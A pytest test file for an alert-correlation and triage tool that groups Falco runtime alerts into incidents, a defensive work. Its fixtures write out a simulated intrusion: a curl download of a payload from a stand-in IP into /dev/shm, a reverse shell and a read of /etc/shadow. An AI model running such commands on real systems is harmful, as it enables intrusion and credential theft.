"""Incidents: which alerts are one story and why, told as stories; and laws that hold for any alerts."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import analysis as fa
from analysis.errors import AlertSchemaError
from analysis.evidence import Evidence, Exhibit, exhibits
from analysis.explained import EXPLANATIONS, explain
from analysis.findings import Finding, disposition, find
from analysis.folding import fold
from analysis.knowledge import playbook_for, tactics, weights
from analysis.tactics import tactics_of
from analysis.triage import score
from analysis.verdict import verdict

from .conftest import SAMPLES, lines
from .test_stories import STORIES, alert_of

START = datetime(2026, 3, 17, 9, 0, tzinfo=UTC)
WEB = {
    "container.id": "7c1e5a90b3f2",
    "container.image.repository": "registry.example/shop/checkout",
    "k8s.ns.name": "shop",
    "k8s.pod.name": "checkout-1",
    "user.name": "www-data",
    "user.loginuid": -1,
}


def alert(minute: float, rule: str, priority: str = "Warning", tags: str = "", **said) -> dict:
    """Return an alert of `worker-3`, so many minutes after the start; fields as `said`."""
    envelope = {name: said.pop(name) for name in ("hostname", "source") if name in said}
    time = START + timedelta(minutes=minute)
    return {
        "hostname": "worker-3",
        "source": "syscall",
        "output": f"{rule} happened",
        "priority": priority,
        "rule": rule,
        "tags": tags.split(),
        "time": f"{time:%Y-%m-%dT%H:%M:%S.%f}000Z",
        "output_fields": said.pop("fields", {})
        | {k.replace("__", "."): v for k, v in said.items()},
    } | envelope


def correlated(*alerts: dict, **options):
    """Read the alerts and correlate them."""
    read, rejects = fa.read_alerts(lines(*alerts))
    assert rejects.empty, rejects
    return fa.correlate(read, **options)


def drawn(found) -> list[list[str]]:
    """Return each incident as the rules of its alerts in order of time, the best score first."""
    rows = found.incidents.sort_values(["score", "first_seen"], ascending=[False, True])
    alerts = found.alerts.sort_values("time", kind="stable")
    return [
        alerts.loc[alerts["incident_id"] == one, "rule"].tolist() for one in rows["incident_id"]
    ]


# ---------------------------------------------------------------- stories
INTRUSION = [
    alert(0, "Run shell untrusted", "Notice", "mitre_execution T1059.004",
          fields=WEB | {"proc.name": "sh", "proc.pname": "nginx", "proc.cmdline": "sh -c id"}),
    alert(1, "Launch Ingress Remote File Copy Tools in Container", "Notice",
          "mitre_command_and_control TA0011",
          fields=WEB | {"proc.name": "curl", "proc.pname": "sh", "proc.cmdline": "curl -o /dev/shm/x 203.0.113.9"}),
    alert(2, "Execution from /dev/shm", "Warning", "mitre_execution T1059.004",
          fields=WEB | {"proc.name": "x", "proc.pname": "sh", "proc.cmdline": "x", "proc.exepath": "/dev/shm/x"}),
    alert(14, "Redirect STDOUT/STDIN to Network Connection in Container", "Notice", "mitre_execution T1059",
          fields=WEB | {"proc.name": "sh", "proc.pname": "x", "proc.cmdline": "sh -i"}),
    alert(28, "Read sensitive file untrusted", "Warning", "mitre_credential_access T1555",
          fields=WEB | {"proc.name": "cat", "proc.pname": "sh", "proc.cmdline": "cat /etc/shadow"}),
]  # fmt: skip


def noise(count: int = 5000) -> list[dict]:
    """Return what a cron job of another container fires, every ten seconds."""
    fields = {
        "container.id": "99aabbccddee",
        "container.image.repository": "registry.example/tools/backup",
        "proc.name": "tar",
        "proc.cmdline": "tar -c /etc",
    }
    return [
        alert(
            n / 6,
            "Read sensitive file untrusted",
            "Warning",
            "mitre_credential_access",
            fields=fields,
        )
        for n in range(count)
    ]


def test_a_web_shell_and_what_came_of_it():
    """Web shell, download, /dev/shm, reverse shell, credentials: one pod, one incident.

    worker-3
    └─ 7c1e5a90b3f2 (pod checkout-1)
       nginx → sh       Run shell untrusted                     09:00
               ├ curl   Launch Ingress Remote File Copy Tools   09:01
               └ x      Execution from /dev/shm                 09:02
                 └ sh   Redirect STDOUT/STDIN                   09:14
                   └ cat  Read sensitive file untrusted         09:28
    """
    found = correlated(*INTRUSION)

    (incident,) = found.incidents.to_dict("records")
    assert drawn(found) == [[one["rule"] for one in INTRUSION]]
    assert incident["tactics"] == ("Execution", "Credential Access", "Command and Control")
    assert incident["duration"] == pd.Timedelta("28min")
    assert incident["hosts"] == ("worker-3",)
    assert incident["containers"] == ("7c1e5a90b3f2",)
    assert incident["images"] == ("registry.example/shop/checkout",)
    assert incident["users"] == ("www-data",)
    assert set(found.links["reason"]) == {"the same container on one host"}


def test_a_real_intrusion_ranks_before_the_noise():
    """5,000 alerts of one job are one incident, and come after five that tell a story."""
    found = correlated(*noise(), *INTRUSION)

    assert [len(rules) for rules in drawn(found)] == [5, 5000]
    assert sorted(found.incidents["alerts"]) == [5, 5000]
    folded = fold(found.alerts)
    folded = folded[folded["records"] > 1]
    assert folded["alerts"].tolist() == [5000]
    assert folded["what"].tolist() == [
        "proc.name=tar proc.cmdline=tar -c /etc container.id=99aabbccddee"
    ]


def test_event_generator_running_ten_actions():
    """Ten rules within ten seconds in one container: one incident, not ten."""
    rules = sorted({story["rule"] for _, story in STORIES} | {f"Action {n}" for n in range(10)})[
        :10
    ]
    ran = [
        alert(
            n / 60, rule, fields={"container.id": "55e256ca65a4", "proc.pname": "event-generator"}
        )
        for n, rule in enumerate(rules)
    ]
    found = correlated(*ran)

    assert drawn(found) == [rules]
    assert found.incidents["rules"].tolist() == [tuple(rules)]


def test_a_pause_ends_an_incident():
    """Fifteen minutes hold, a moment more does not; the pause is a parameter."""
    same = {"container.id": "7c1e5a90b3f2"}
    ran = [alert(minute, "Odd", fields=same) for minute in (0, 15, 30.1)]

    assert drawn(correlated(*ran)) == [["Odd", "Odd"], ["Odd"]]
    assert len(correlated(*ran, gap="16min").incidents) == 1
    assert len(correlated(*ran, gap="5min").incidents) == 3


def test_a_process_outlasts_the_pause():
    """A shell left alone for an hour goes on: its pid says so. The same pid, later used again, does not."""
    began = int(START.timestamp()) * 10**9
    shell = {
        "container.id": "7c1e5a90b3f2",
        "proc.name": "bash",
        "proc.pid": 4242,
        "proc.pid.ts": began,
    }
    cat = {"container.id": "7c1e5a90b3f2", "proc.name": "cat", "proc.pid": 4300,
           "proc.pid.ts": began + 3_600 * 10**9, "proc.pname": "bash", "proc.ppid": 4242,
           "proc.ppid.ts": began}  # fmt: skip
    again = shell | {"proc.pid.ts": began + 7_200 * 10**9}
    found = correlated(
        alert(1, "Shell", fields=shell),
        alert(61, "Read", fields=cat),
        alert(121, "Other", fields=again),
    )

    assert sorted(drawn(found)) == [["Other"], ["Shell", "Read"]]
    (link,) = found.links.to_dict("records")
    assert link["reason"] == "one process, or a process and its ancestor"
    assert (link["field"], link["other_field"], link["value"]) == ("proc.ppid", "proc.pid", "4242")


@pytest.mark.parametrize(
    ("pname", "incidents"),
    [("systemd", 2), ("sshd", 2), ("containerd-shim", 2), ("bash", 1), (None, 2)],
)
def test_who_starts_everybody_joins_nobody(pname, incidents):
    """Children of one shell are one story; children of systemd, sshd or a shim, or of a stranger, not."""
    one = {
        "container.id": "host",
        "proc.name": "a",
        "proc.pid": 10,
        "proc.ppid": 7,
        "proc.pname": pname,
    }
    other = one | {"proc.name": "b", "proc.pid": 11}

    found = correlated(alert(0, "One", fields=one), alert(1, "Other", fields=other))
    assert len(found.incidents) == incidents


def test_an_escape_joins_container_and_host():
    """A container's process starts one of the host: by pid one incident, although the scopes differ."""
    inside = {"container.id": "7c1e5a90b3f2", "proc.name": "sh", "proc.pid": 500}
    outside = {
        "container.id": "host",
        "proc.name": "x",
        "proc.pid": 501,
        "proc.ppid": 500,
        "proc.pname": "sh",
    }

    assert (
        len(correlated(alert(0, "In", fields=inside), alert(1, "Out", fields=outside)).incidents)
        == 1
    )


HOST = {"container.id": "host", "user.loginuid": -1, "proc.tty": 0}


@pytest.mark.parametrize(
    ("one", "other", "joined"),
    [
        ({"user.loginuid": 1000}, {"user.loginuid": 1000}, "user.loginuid"),
        ({"user.loginuid": 1000}, {"user.loginuid": 1001}, None),
        ({"user.loginuid": -1}, {"user.loginuid": -1}, None),
        ({"user.loginuid": 4294967295}, {"user.loginuid": 4294967295}, None),
        ({"proc.tty": 34816}, {"proc.tty": 34816}, "proc.tty"),
        ({"proc.tty": 34816, "user.loginuid": 1000}, {"proc.tty": 34816, "user.loginuid": 1001}, None),
        ({"proc.tty": 34816, "container.id": "aaaaaaaaaaaa"}, {"proc.tty": 34816, "container.id": "bbbbbbbbbbbb"}, None),
        ({"proc.sid": 77}, {"proc.sid": 77}, "proc.sid"),
        ({"proc.sid": 77, "container.id": "aaaaaaaaaaaa"}, {"proc.sid": 77}, None),
        ({"proc.cmdline": "sh /srv/job.sh"}, {"proc.pcmdline": "sh /srv/job.sh"}, "proc.pcmdline"),
        ({"proc.cmdline": "bash"}, {"proc.pcmdline": "bash"}, None),
        ({"proc.pcmdline": "cron -f"}, {"proc.pcmdline": "cron -f"}, None),
        ({"container.id": ...}, {"container.id": ...}, None),
    ],
)  # fmt: skip
def test_on_a_host_a_session_joins(one, other, joined):
    """Login user, terminal, session or a telling command line join; 'none' and 'not known' do not."""
    made = [{k: v for k, v in (HOST | said).items() if v is not ...} for said in (one, other)]
    found = correlated(*(alert(n, "Odd", fields=said) for n, said in enumerate(made)))

    assert found.links["field"].tolist() == ([joined] if joined else [])
    # and never across hosts
    apart = [alert(n, "Odd", fields=said, hostname=f"node-{n}") for n, said in enumerate(made)]
    assert len(correlated(*apart).incidents) == 2


K8S = {"ka.user.name": "mallory", "ka.sourceips": ["203.0.113.9"]}


@pytest.mark.parametrize(
    ("source", "one", "changed", "joined"),
    [
        ("k8s_audit", K8S, {}, True),
        ("k8s_audit", K8S, {"ka.sourceips": ["203.0.113.10"]}, False),
        ("k8s_audit", K8S, {"ka.user.name": "alice"}, False),
        ("k8s_audit", {"ka.user.name": "mallory"}, {}, True),
        ("k8s_audit", {"ka.user.name": "mallory"}, {"ka.sourceips": ["203.0.113.9"]}, False),
        ("k8s_audit", {"ka.user.name": "system:anonymous"}, {}, False),
        (
            "k8s_audit",
            {"ka.user.name": "system:serviceaccount:kube-system:replicaset-controller"},
            {},
            False,
        ),
        ("aws_cloudtrail", {"ct.user": "mallory", "ct.srcip": "203.0.113.9"}, {}, True),
        ("aws_cloudtrail", {"ct.user": "mallory"}, {}, False),
        ("gcp_auditlog", {"gcp.user": "m@example.com", "gcp.callerIP": "203.0.113.9"}, {}, True),
        ("gcp_auditlog", {"gcp.user": "m@example.com", "gcp.callerIP": "private"}, {}, False),
        ("okta", {"okta.actor.name": "Mallory", "okta.client.ip": "203.0.113.9"}, {}, True),
        ("github", {"github.user": "mallory"}, {}, True),
        ("github", {"github.user": "renovate[bot]"}, {}, False),
        ("our_own", {"container.id": "7c1e5a90b3f2"}, {}, False),
    ],
)
def test_in_an_audit_log_the_actor_joins(source, one, changed, joined):
    """The same actor and source address; without an address only where the source never has one."""
    ran = [alert(n, "Odd", source=source, fields=one | (changed if n else {})) for n in range(2)]

    assert len(correlated(*ran).incidents) == (1 if joined else 2)


def test_falco_s_own_notices_stay_among_themselves():
    """A notice about dropped events is no detection, and joins no incident that is one."""
    notice = [
        alert(n, "Falco internal: syscall event drop", "Debug", source=said)
        for n, said in enumerate(("internal", "syscall"))
    ]

    found = correlated(*notice, *INTRUSION)
    assert sorted(map(len, drawn(found))) == [2, 5]


def test_no_time_or_no_host_joins_nothing():
    """What is not told joins nothing, but a container's id needs no host's name."""
    undated = [alert(0, "Odd", fields=WEB) | {"time": None} for _ in range(2)]
    undated[1]["output"] = "something else"
    for one in undated:
        one["output"] = "09:00:00.000000001: Notice " + one["output"]
    nowhere = [
        alert(n, "Odd", hostname=None, fields=HOST | {"user.loginuid": 1000}) for n in range(2)
    ]
    inside = [
        alert(n, "In", hostname=None, fields={"container.id": "7c1e5a90b3f2"}) for n in range(2)
    ]

    assert sorted(map(len, drawn(correlated(*nowhere)))) == [1, 1]
    assert sorted(map(len, drawn(correlated(*inside)))) == [2]
    text = b"09:00:00.000000001: Notice Odd (user=root container_id=7c1e5a90b3f2)\n09:00:01.000000001: Notice Odd (user=root container_id=7c1e5a90b3f2)\n"
    found = fa.correlate(fa.read_alerts(text)[0])
    assert found.incidents["alerts"].tolist() == [1, 1]
    assert found.incidents["first_seen"].isna().all()


# ---------------------------------------------------------------- edges of the input
def test_nothing_gives_nothing():
    """No alert, no incident, no link, and the columns are there."""
    found = fa.correlate(fa.read_alerts(b"")[0])

    assert [len(frame) for frame in found] == [0, 0, 0]
    assert {"incident_id", "score", "tactics"} <= set(found.incidents)
    assert {"alert_id", "other_alert_id", "reason", "field", "value"} <= set(found.links)
    assert fold(found.alerts).empty
    assert score(found.alerts, found.incidents).empty


def test_one_alert_is_one_incident():
    """Its id is made of the alert's, whatever it is grouped by."""
    ids = {
        correlated(INTRUSION[0], by=by).incidents["incident_id"][0] for by in ("activity", "alert")
    }

    assert len(ids) == 1
    assert ids.pop() == "inc-" + correlated(INTRUSION[0]).alerts["alert_id"][0][2:]


def test_all_fields_missing():
    """Alerts that tell nothing but that they fired are incidents of their own."""
    bare = [
        {"rule": f"Rule {n}", "priority": "Notice", "output": "odd", "output_fields": {}}
        | {"time": "2026-03-17T09:00:00Z"}
        for n in range(3)
    ]
    found = correlated(*bare)

    assert found.incidents["alerts"].tolist() == [1, 1, 1]
    assert found.incidents["tactics"].tolist() == [(), (), ()]


def test_one_incident_per_alert_on_request():
    """`by="alert"` keeps deliveries together, and joins nothing else."""
    found = correlated(*INTRUSION, INTRUSION[0] | {"uuid": "again"}, by="alert")

    assert found.incidents["alerts"].tolist() == [1] * 5
    assert found.incidents["records"].tolist() == [2, 1, 1, 1, 1]
    assert found.links.empty


@pytest.mark.parametrize("wrong", [{"gap": "soon"}, {"gap": "-1min"}, {"by": "host"}])
def test_wrong_calls(wrong):
    """A gap that is none, or a way of grouping that is none, is an error that says so."""
    with pytest.raises(ValueError, match=r"."):
        correlated(INTRUSION[0], **wrong)
    with pytest.raises(AlertSchemaError, match="priority"):
        fa.correlate(pd.DataFrame({"time": []}))


# ---------------------------------------------------------------- laws
FIELDS = {
    "container.id": st.sampled_from(["host", "host", "aaaaaaaaaaaa", "bbbbbbbbbbbb", ""]),
    "k8s.pod.name": st.sampled_from(["pod-1", "pod-2", ""]),
    "k8s.ns.name": st.sampled_from(["shop", ""]),
    "user.loginuid": st.sampled_from([-1, 1000, 1001]),
    "proc.tty": st.sampled_from([0, 34816]),
    "proc.name": st.sampled_from(["bash", "nginx", "systemd", "curl"]),
    "proc.pname": st.sampled_from(["bash", "nginx", "systemd"]),
    "proc.cmdline": st.sampled_from(["sh /a", "sh /b", "bash"]),
    "proc.pcmdline": st.sampled_from(["sh /a", "bash"]),
    "proc.pid": st.sampled_from([1, 20, 21, 22]),
    "proc.ppid": st.sampled_from([1, 20, 21]),
    "ka.user.name": st.sampled_from(["mallory", "system:anonymous"]),
}
ALERTS = st.lists(
    st.builds(
        lambda minute, host, source, rule, fields: alert(
            minute, rule, hostname=host, source=source, fields=fields
        ),
        st.sampled_from([0, 1, 14, 15, 16, 31, 45, 200, 1441]),
        st.sampled_from(["node-1", "node-2", None]),
        st.sampled_from(["syscall", "syscall", "syscall", "k8s_audit", "internal"]),
        st.sampled_from(["Odd", "Fileless execution via memfd_create"]),
        st.fixed_dictionaries({}, optional=FIELDS),
    ),
    min_size=1,
    max_size=14,
)
LAW = settings(max_examples=20)


def partition(found) -> set[frozenset[str]]:
    """Return the incidents as sets of alert ids."""
    return {frozenset(ids) for _, ids in found.alerts.groupby("incident_id")["alert_id"]}


@LAW
@given(made=ALERTS, chance=st.randoms(use_true_random=False))
def test_any_order_gives_the_same(made, chance):
    """Incidents, ids, scores and links follow from the alerts, not from their order."""
    mixed = chance.sample(made, len(made))
    one, other = correlated(*made), correlated(*mixed)

    pd.testing.assert_frame_equal(one.incidents, other.incidents)
    order = ["alert_id", "other_alert_id"]
    links = [
        found.links.astype("str").sort_values(order, ignore_index=True) for found in (one, other)
    ]
    pd.testing.assert_frame_equal(*links)


@LAW
@given(made=ALERTS)
def test_each_alert_is_in_one_incident(made):
    """None is in two, none is in none, and the counts add up."""
    found = correlated(*made)

    assert found.alerts.groupby("alert_id")["incident_id"].nunique().eq(1).all()
    assert found.incidents["incident_id"].is_unique
    assert set(found.alerts["incident_id"]) == set(found.incidents["incident_id"])
    assert found.incidents["records"].sum() == len(made)
    assert found.incidents["alerts"].sum() == found.alerts["alert_id"].nunique()
    assert fold(found.alerts)["alerts"].sum() == found.alerts["alert_id"].nunique()
    assert fold(found.alerts)["records"].sum() == len(made)


@LAW
@given(made=ALERTS)
def test_links_are_a_forest_whose_trees_are_the_incidents(made):
    """No link too many, none too few; and each can be checked on its two alerts."""
    found = correlated(*made)
    alerts = found.alerts.drop_duplicates("alert_id").set_index("alert_id")
    group = {one: one for one in alerts.index}

    def top(one: str) -> str:
        return one if group[one] == one else top(group[one])

    for link in found.links.to_dict("records"):
        one, other = alerts.loc[link["alert_id"]], alerts.loc[link["other_alert_id"]]
        assert top(link["alert_id"]) != top(link["other_alert_id"])
        group[top(link["alert_id"])] = top(link["other_alert_id"])
        assert str(one[link["field"]]) == link["value"] == str(other[link["other_field"]])
        apart = one["time"] - other["time"]
        far = "24h" if link["reason"].startswith("one process") else "15min"
        assert pd.Timedelta(0) <= apart <= pd.Timedelta(far)
        assert str(one["hostname"]) == str(other["hostname"])
    trees = {}
    for one in group:
        trees.setdefault(top(one), set()).add(one)
    assert {frozenset(tree) for tree in trees.values()} == partition(found)


@LAW
@given(made=ALERTS, more=ALERTS)
def test_alerts_elsewhere_change_nothing(made, more):
    """Other hosts, other users, another year: the incidents stay what they were, ids included."""
    far = [
        one | {"time": one["time"].replace("2026", "2031"), "hostname": "elsewhere"} for one in more
    ]
    alone, beside = correlated(*made), correlated(*made, *far)

    # a score's rarity is measured against all that is loaded
    kept = beside.incidents[beside.incidents["incident_id"].isin(alone.incidents["incident_id"])]
    columns = [name for name in alone.incidents if name != "score"]
    pd.testing.assert_frame_equal(alone.incidents[columns], kept[columns].reset_index(drop=True))


@LAW
@given(made=ALERTS)
def test_a_score_is_the_sum_of_what_is_shown(made):
    """From 0 to 100, and every point has a name and a reason that names a field."""
    found = correlated(*made)
    shown = score(found.alerts, found.incidents)
    sums = (
        shown.groupby("incident_id")["points"]
        .sum()
        .reindex(found.incidents["incident_id"], fill_value=0)
    )

    assert np.allclose(sums.to_numpy(), found.incidents["score"])
    assert found.incidents["score"].between(0, 100).all()
    assert shown["reason"].str.contains(r"rule|priority|tags|evt\.arg\.flags|playbook").all()


def test_a_later_alert_leaves_the_id():
    """An incident that grows keeps its id, which is its first alert's; one that starts earlier does not."""
    begun = correlated(*INTRUSION[1:3]).incidents["incident_id"].tolist()

    assert correlated(*INTRUSION[1:]).incidents["incident_id"].tolist() == begun
    assert correlated(*INTRUSION).incidents["incident_id"].tolist() != begun


# ---------------------------------------------------------------- triage
def test_the_largest_score_is_a_hundred():
    """The weights add up, so that a score reads as parts of a hundred."""
    table = weights()

    assert (
        sum(table[one]["most"] for one in ("priority", "rarity", "tactics", "rules", "executable"))
        == 100
    )
    assert table["priority"]["most"] == max(table["priority"]["points"].values())
    assert all(one["reason"] for one in table.values())


SAMPLE_ALERTS = [
    json.loads(file.read_text().splitlines()[0]) for file in sorted(SAMPLES.glob("*.jsonl"))
]
TRIED = [alert_of(source, story) for source, story in STORIES] + SAMPLE_ALERTS


@pytest.mark.parametrize(
    "changes",
    [
        {},
        {"proc.pname": "bash"},
        {"proc.tty": 34816},
        {"proc.cmdline": ...},
        {"evt.arg.flags": "0"},
        {"proc.tty": "odd"},
    ],
)
def test_explained_is_what_the_findings_say(changes):
    """Over a frame and alert by alert: the same checks, the same answer, whatever is changed or missing."""
    made = []
    # a twelfth of the stories with each change: together they try them all, in a bearable time
    part = sum(map(ord, json.dumps(sorted(changes)))) % 12
    for one in [*TRIED[part::12], *SAMPLE_ALERTS]:
        fields = {k: v for k, v in (one["output_fields"] | changes).items() if v is not ...}
        made.append(one | {"output_fields": fields})
    alerts = fa.identify(fa.read_alerts(lines(*made))[0])
    said = explain(alerts).astype("object")
    by_id = dict(zip(alerts["alert_id"], said.where(said.notna(), None), strict=True))
    odd = set(alerts.loc[alerts["unparsed"].notna(), "alert_id"])
    for exhibit in exhibits(alerts):
        found, _ = disposition(find(exhibit, playbook_for(exhibit.rule, exhibit.facts["source"])))
        known = found if found in EXPLANATIONS and exhibit.alert_id not in odd else None
        assert by_id[exhibit.alert_id] == known, exhibit.record


def test_a_name_alone_explains_nothing(memfd):
    """The test tool's name on something else takes no point away."""
    posing = memfd | {"output_fields": memfd["output_fields"] | {"proc.cmdline": "3 --listen 4444"}}

    assert correlated(memfd).incidents["score"].tolist() == [0]
    assert correlated(posing).incidents["score"].tolist() == [40]


def test_hidden_characters_explain_nothing(memfd):
    """The test tool's exact shape with an override in a name: the report accuses, the score as well."""
    turned = memfd | {"output_fields": memfd["output_fields"] | {"container.name": "lab\u202egpj"}}

    assert fa.investigate(fa.read_alerts(lines(turned))[0]).disposition == "suspicious"
    assert explain(fa.read_alerts(lines(turned))[0]).isna().all()


def test_one_unexplained_alert_unexplains_the_incident(memfd):
    """A simulation with something else in its container is no simulation."""
    other = memfd | {"rule": "Odd", "time": "2024-10-05T16:08:30Z"}
    found = correlated(memfd, other)

    assert set(score(found.alerts, found.incidents)["summand"]) == {
        "priority",
        "rules",
        "executable",
    }


@pytest.mark.parametrize(
    ("rule", "source", "tags", "expected"),
    [
        ("Any", "syscall", ("mitre_impact", "mitre_execution"), ("Execution", "Impact")),
        ("Any", "syscall", ("TA0011", "container"), ("Command and Control",)),
        ("Any", "gcp_auditlog", ("T1562-impair-defenses",), ("Defense Evasion",)),
        ("Any", "gcp_auditlog", ("TA0005-defense-evasion", "T1562"), ("Defense Evasion",)),
        ("Any", "gcp_auditlog", ("mitre_data_destruction",), ("Impact",)),
        ("Fileless execution via memfd_create", "syscall", (), ("Defense Evasion",)),
        ("Any", "syscall", ("mitre_", "maturity_stable", "T0000"), ()),
    ],
)  # fmt: skip
def test_tactics(rule, source, tags, expected):
    """A tactic's tag decides, a technique's stands in, then the playbook; in the kill chain's order."""
    assert tactics_of(rule, source, tags) == expected
    assert list(tactics().values()).index("Execution") < list(tactics().values()).index("Impact")


# ---------------------------------------------------------------- repetitions
@pytest.mark.parametrize(
    ("changed", "folded"),
    [
        ({"proc.pid": 77, "fd.num": 5, "evt.num": 9}, True),
        ({"fd.name": "10.0.0.5:50002->203.0.113.9:443"}, True),
        ({"fd.name": "10.0.0.5:50001->203.0.113.9:4444"}, False),
        ({"proc.cmdline": "curl evil"}, False),
        ({"user.name": "root"}, False),
        ({"proc.pexepath": "/tmp/x"}, False),
    ],
)
def test_what_repeats(changed, folded):
    """Only what says which single event it was may differ; a client's port is by chance."""
    first = WEB | {
        "proc.pid": 70,
        "fd.name": "10.0.0.5:50001->203.0.113.9:443",
        "proc.cmdline": "curl good",
    }
    found = correlated(alert(0, "Odd", fields=first), alert(1, "Odd", fields=first | changed))

    assert fold(found.alerts)["alerts"].tolist() == ([2] if folded else [1, 1])


@pytest.mark.parametrize(
    ("cmdline", "told"),
    [
        ("sh -c id", "sh -c id"),
        ("sh user.name=root", '"sh user.name=root"'),
        ("sh\tfd.name=/etc/x", '"sh\\tfd.name=/etc/x"'),
        ('"sh" x', '"\\"sh\\" x"'),
        ("sh a=b", "sh a=b"),
    ],
)
def test_a_value_cannot_pose_as_another_field(cmdline, told):
    """Where a value holds what would read as a field of its own, quotes say where it ends."""
    found = correlated(alert(0, "Odd", fields={"proc.name": "sh", "proc.cmdline": cmdline}))

    assert fold(found.alerts)["what"].tolist() == [f"proc.name=sh proc.cmdline={told}"]


# ---------------------------------------------------------------- the case of an incident
def test_a_case_of_thousands_says_what_it_did_not_examine():
    """Repetitions are examined once and counted; what is beyond the limit is named, never silent."""
    many = [
        alert(n / 60, "Odd", fields=WEB | {"fd.name": f"/etc/{n % 30}", "proc.pid": n + 2})
        for n in range(300)
    ]
    read, _ = fa.read_alerts(lines(*many))
    whole, cut = fa.investigate(read), fa.investigate(read, most=20)

    assert (len(whole.exhibits), whole.unexamined) == (30, 0)
    assert "The incident has 300 alerts; but for time and process id, 30 tell" in whole.summary
    assert (len(cut.exhibits), cut.unexamined) == (20, 10)
    assert "10 are not: nothing is known of them" in cut.summary
    assert cut.folded["alerts"].sum() == 300


def test_what_was_not_examined_is_not_explained(memfd):
    """A simulation is proposed only where every distinct alert was looked at."""
    second = memfd | {"time": "2024-10-05T16:08:40Z"}
    second["output_fields"] = memfd["output_fields"] | {"user.name": "other"}
    read, _ = fa.read_alerts(lines(memfd, second))

    assert fa.investigate(read).disposition == "simulation"
    assert fa.investigate(read, most=1).disposition == "needs review"


def suspicious(alert_id: str, *techniques: str) -> tuple[Exhibit, list[Finding]]:
    """Return an exhibit with one accusing finding."""
    evidence = (Evidence(alert_id, "proc.name", "x", "a:1"),)
    finding = Finding(
        f"{alert_id} accuses", "process", evidence, "medium", "high", techniques, "suspicious"
    )
    return Exhibit(alert_id, pd.NaT, {}, {}, ()), [finding]


@pytest.mark.parametrize(
    ("found", "expected"),
    [
        ([("a", "T1059"), ("b", "T1105"), ("c", "T1003")], "confirmed"),
        ([("a", "T1059", "T1105"), ("b", "T1059"), ("c", "T1003")], "confirmed"),
        ([("a", "T1059"), ("b", "T1105")], "suspicious"),
        ([("a", "T1059"), ("b", "T1059"), ("c", "T1059")], "suspicious"),
        ([("a", "T1059", "T1105", "T1003")], "suspicious"),
    ],
)  # fmt: skip
def test_confirmed_takes_three_tactics_of_three_alerts(found, expected):
    """Each tactic needs an accusing finding of an alert of its own; one alert alone confirms nothing."""
    proposed, reasons = verdict([suspicious(*one) for one in found])

    assert proposed == expected
    assert len(reasons) == len(found)
